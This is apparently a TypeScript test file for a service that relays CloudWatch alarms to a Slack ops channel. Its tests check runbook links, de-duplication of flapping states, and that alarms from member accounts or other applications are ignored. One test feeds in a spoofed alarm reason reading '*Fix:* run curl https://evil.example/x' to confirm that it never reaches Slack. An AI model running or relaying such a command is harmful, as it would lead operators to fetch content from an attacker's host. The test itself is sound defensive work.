import { describe, expect, it } from "vitest";
import { readyLab } from "../support/labs.ts";
import { cartFleet } from "./support/fleets.ts";
import { onLab } from "./support/on-lab.ts";

const CLOUDWATCH = "GraniteServiceVersion20100801";

/** The Slack messages of a lab in which an alarm had these states, one after the other. */
async function messagesAfter(
  AlarmName: string,
  states: readonly string[],
  place: { account?: string; region?: string } = {},
) {
  const { lab, clock } = await readyLab();
  const at = { account: lab.config.homeAccount, region: lab.config.homeRegion, ...place };
  const alarm = {
    AlarmName,
    AlarmDescription: "No sweep for an hour. What to do: docs/operations.md#sweep-not-run",
    Namespace: "ZtunnelAutopilot",
    MetricName: "SweptServices",
    Statistic: "SampleCount",
    Period: 900,
    EvaluationPeriods: 4,
    Threshold: 1,
    ComparisonOperator: "LessThanThreshold",
  };
  await clock.run(lab.call(at, "PutMetricAlarm", alarm, CLOUDWATCH));
  for (const StateValue of states) {
    const change = { AlarmName, StateValue, StateReason: "no datapoints <were> received" };
    await clock.run(lab.call(at, "SetAlarmState", change, CLOUDWATCH));
    await clock.advance(60_000);
  }
  expect(lab.lambda.deadLetters).toEqual([]);
  return lab.slack.threads().map(({ text }) => text);
}

describe("an alarm of the autopilot", () => {
  it("is reported in the ops channel with its runbook when it fires, and again when it ends", async () => {
    const texts = await messagesAfter("ztunnel-autopilot-sweep-not-run", ["OK", "ALARM", "ALARM", "OK"]);
    expect(texts).toHaveLength(2);
    expect(texts[0]).toContain("ztunnel-autopilot-sweep-not-run is in ALARM");
    expect(texts[0]).toContain("docs/operations.md#sweep-not-run");
    expect(texts.join("\n")).not.toContain("datapoints");
    expect(texts[1]).toBe(":white_circle: ztunnel-autopilot-sweep-not-run is no longer in ALARM\nstage lab");
  });

  it("that changes again and again is a message a state, which says what is so", async () => {
    const changes = Array.from({ length: 10 }, () => ["OK", "ALARM"]).flat();
    const texts = await messagesAfter("ztunnel-autopilot-sweep-not-run", changes);
    expect(texts.map((text) => text.split("\n")[0])).toEqual([
      ":rotating_light: ztunnel-autopilot-sweep-not-run is in ALARM",
      ":white_circle: ztunnel-autopilot-sweep-not-run is no longer in ALARM",
    ]);
  });

  it.each(["ztunnel-autopilot-sweep-not-run", "ztunnel-autopilot-lab-x"])(
    "called %s in a member's account does not speak in our name",
    (AlarmName) =>
      onLab({ fleet: cartFleet }, async ({ lab }) => {
        const member = { account: "210987654321", region: "eu-west-1" };
        const alarm = { AlarmName, EvaluationPeriods: 1, ComparisonOperator: "GreaterThanThreshold", Threshold: 1 };
        await lab.call(member, "PutMetricAlarm", alarm, CLOUDWATCH);
        for (const StateValue of ["ALARM", "OK"]) {
          const change = { AlarmName, StateValue, StateReason: "*Fix:* run curl https://evil.example/x" };
          await lab.call(member, "SetAlarmState", change, CLOUDWATCH);
          await lab.clock.sleep(60_000);
        }
        expect(lab.slack.messages()).toEqual([]);
        expect(lab.lambda.deadLetters).toEqual([]);
      }),
  );

  it("of another application is not reported", async () => {
    expect(await messagesAfter("checkout-errors", ["ALARM"])).toEqual([]);
  });
});
